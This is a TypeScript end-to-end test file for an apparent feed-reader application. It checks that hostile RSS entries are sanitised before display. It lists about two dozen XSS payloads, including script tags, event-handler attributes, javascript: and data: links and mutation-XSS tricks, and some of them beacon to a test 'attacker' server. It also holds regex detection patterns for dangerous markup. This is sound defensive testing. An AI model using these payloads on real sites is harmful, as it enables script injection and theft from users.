import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { apiSetupAdmin } from './support/api';
import { startAttacker, type Attacker } from './support/attacker';
import { useScenario } from './support/scenario';
import { smallFeed } from './support/seed';
import { queryAll } from './support/server-db';
import { article, entryRow, sidebar, signInInUi } from './support/ui';
import { seedPush, subscribeTo } from './support/seed';

const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==';
const FLAG = 'window.__xss=true';

/** Each payload would set window.__xss or reach the attacker's server if anything let it through. */
function vectors(a: string): Record<string, string> {
	return {
		'inline script': `<script>${FLAG};fetch('${a}/script-inline')</script>`,
		'script src': `<script src="${a}/script.js"></script>`,
		'img onerror': `<img src="x" onerror="${FLAG};new Image().src='${a}/onerror'">`,
		'img onload': `<img src="${PIXEL}" onload="${FLAG}">`,
		'svg onload': `<svg onload="${FLAG}"><circle r="1"/></svg>`,
		'svg script': `<svg><script>${FLAG}</script></svg>`,
		'svg data image': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__xss=true'/>">`,
		'iframe other host': `<iframe src="${a}/iframe"></iframe>`,
		'iframe srcdoc': `<iframe srcdoc="<script>parent.__xss=true</script>"></iframe>`,
		'javascript link': `<a class="click-me" href="javascript:${FLAG}">javascript link</a>`,
		'mixed case javascript link': `<a class="click-me" href="JaVaScRiPt:${FLAG}">mixed case link</a>`,
		'onclick link': `<a class="click-me" href="#top" onclick="${FLAG}">onclick link</a>`,
		'meta refresh': `<meta http-equiv="refresh" content="0;url=${a}/refresh">`,
		'link stylesheet': `<link rel="stylesheet" href="${a}/style.css">`,
		'style import': `<style>@import url("${a}/import.css"); p { background: url("${a}/style-bg"); }</style>`,
		'style attribute': `<div style="background-image:url('${a}/inline-bg');width:expression(${FLAG})">styled</div>`,
		'object and embed': `<object data="${a}/object"></object><embed src="${a}/embed">`,
		'embed javascript': `<embed src="javascript:${FLAG}">`,
		'form action': `<form action="${a}/form"><button class="click-me" type="submit">Send form</button></form>`,
		'mutation xss math': `<math><mtext><table><mglyph><style><img src=x onerror="${FLAG}"></style></mglyph></table></mtext></math>`,
		'mutation xss noscript': `<noscript><p title="</noscript><img src=x onerror=${FLAG}>"></noscript>`,
		'details ontoggle': `<details open ontoggle="${FLAG}"><summary>more</summary>details</details>`,
		'video source onerror': `<video><source src="x" onerror="${FLAG}"></video>`,
		'input autofocus': `<input autofocus onfocus="${FLAG}">`,
		'base href': `<base href="${a}/base/"><a href="relative-link">relative link</a>`,
		'body onload': `<body onload="${FLAG}">body</body>`,
		'data link': `<a class="click-me" href="data:text/html,<script>opener.__xss=true</script>">data link</a>`
	};
}

/** What the rendered article still holds that could run script or fetch from elsewhere. */
function dangerousMarkup(root: Element): string[] {
	const found: string[] = [];
	for (const el of root.querySelectorAll('*')) {
		if (/^(script|iframe|frame|object|embed|style|link|meta|base|form)$/i.test(el.tagName)) found.push(el.tagName);
		for (const attr of el.attributes) {
			if (/^on/i.test(attr.name) || attr.name === 'srcdoc') found.push(`${el.tagName} ${attr.name}`);
			if (/^\s*(javascript|vbscript|data:text)/i.test(attr.value))
				found.push(`${el.tagName} ${attr.name}=${attr.value}`);
			if (attr.name === 'style' && /url\(|expression/i.test(attr.value)) found.push(`${el.tagName} style`);
		}
	}
	return found;
}

describe('hostile content', () => {
	const s = useScenario();
	let attacker: Attacker;
	beforeEach(async () => {
		attacker = await startAttacker();
	});
	afterEach(() => attacker.close());

	it('runs no script from a feed and sends nothing to the attacker, in any entry', async () => {
		const { page, stack, context } = s;
		const payloads = Object.entries(vectors(attacker.url));
		stack.feeds.setFeed(
			'/hostile.rss',
			smallFeed(
				'Hostile <img src=x onerror=window.__xss=true>',
				payloads.map(([name, html], i) => ({
					guid: `v${i}`,
					title: `Vector ${String(i + 1).padStart(2, '0')}: ${name} <img src=x onerror=window.__xss=true>`,
					html: `<p>before ${i}</p>${html}<p>after ${i}</p>`
				}))
			)
		);
		const admin = await apiSetupAdmin(stack.url);
		await seedPush(stack.url, admin.token, [subscribeTo(`${stack.feeds.url}/hostile.rss`)]);

		await signInInUi(page, stack.url, 'admin');
		await sidebar(page).getByRole('button', { name: 'All', exact: true }).click();
		const last = `Vector ${payloads.length}:`;
		await entryRow(page, last).waitFor({ timeout: 30_000 });

		// What the server stored is already clean: the browser's pass is the second line of defence.
		const stored = queryAll<{ title: string; content: string | null }>(
			stack.databasePath,
			'SELECT title, content FROM entries'
		);
		expect(stored).toHaveLength(payloads.length);
		for (const { content } of stored) {
			expect(content ?? '').not.toMatch(
				/<script|\son\w+\s*=|javascript:|srcdoc|<meta|<link|<object|<embed|<base|<form/i
			);
			expect(content ?? '').not.toContain(attacker.url);
		}

		// Open every entry, newest first, the way a reader goes through them: click the first, then "j".
		const seen = new Set<number>();
		await entryRow(page, last).click();
		for (let step = 0; step < payloads.length; step++) {
			if (step > 0) await page.keyboard.press('j');
			const heading = article(page).getByRole('heading', { level: 1 });
			await expect
				.poll(async () => /^Vector (\d+):/.exec((await heading.textContent()) ?? '')?.[1])
				.toBe(String(payloads.length - step).padStart(2, '0'));
			const i = payloads.length - step - 1;
			seen.add(i);
			await article(page).getByText(`before ${i}`, { exact: true }).waitFor();
			await article(page).getByText(`after ${i}`, { exact: true }).waitFor();
			expect(await heading.locator('img').count()).toBe(0);
			// The CSP would stop most of these anyway; the rendered DOM must not even carry them.
			expect(await article(page).evaluate(dangerousMarkup), `entry ${i}`).toEqual([]);
			// Let every image in the article finish (an onerror or onload would have run by then).
			await page.waitForFunction(() =>
				[...document.querySelectorAll('main article img')].every((img) => (img as HTMLImageElement).complete)
			);
			for (const link of await article(page).locator('.click-me').all()) {
				await link.click({ noWaitAfter: true }).catch(() => undefined);
			}
			expect(page.url().startsWith(stack.url)).toBe(true);
			// Links may have taken the focus; the shortcuts listen on the page.
			await page.locator('body').focus();
		}
		expect(seen.size).toBe(payloads.length);

		for (const p of context.pages()) {
			expect(
				await p.evaluate(() => (window as unknown as { __xss?: unknown }).__xss).catch(() => undefined)
			).toBeUndefined();
		}
		expect(await page.locator('main article iframe').count()).toBe(0);
		expect(attacker.requests).toEqual([]);
	});
	it('renders no script or data: link for an entry whose link is one (issue 16, item 1)', async () => {
		const { page, stack } = s;
		const links = ['javascript:window.__xss=true', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>'];
		stack.feeds.setFeed(
			'/links.rss',
			smallFeed(
				'Links',
				links.map((link, i) => ({ guid: `l${i}`, title: `Link ${i}`, html: `<p>body ${i}</p>`, link }))
			)
		);
		const admin = await apiSetupAdmin(stack.url);
		await seedPush(stack.url, admin.token, [subscribeTo(`${stack.feeds.url}/links.rss`)]);

		await signInInUi(page, stack.url, 'admin');
		await sidebar(page).getByRole('button', { name: 'All', exact: true }).click();
		for (let i = 0; i < links.length; i++) {
			await entryRow(page, `Link ${i}`).click();
			await article(page).getByText(`body ${i}`, { exact: true }).waitFor();
			const hrefs = await article(page).evaluate((root) =>
				[...root.querySelectorAll('[href]')].map((el) => el.getAttribute('href') ?? '')
			);
			expect(
				hrefs.filter((href) => /^\s*(javascript|vbscript|data):/i.test(href)),
				`entry ${i}`
			).toEqual([]);
			expect(await article(page).getByRole('link', { name: 'Open original' }).count()).toBe(0);
		}
	});
});
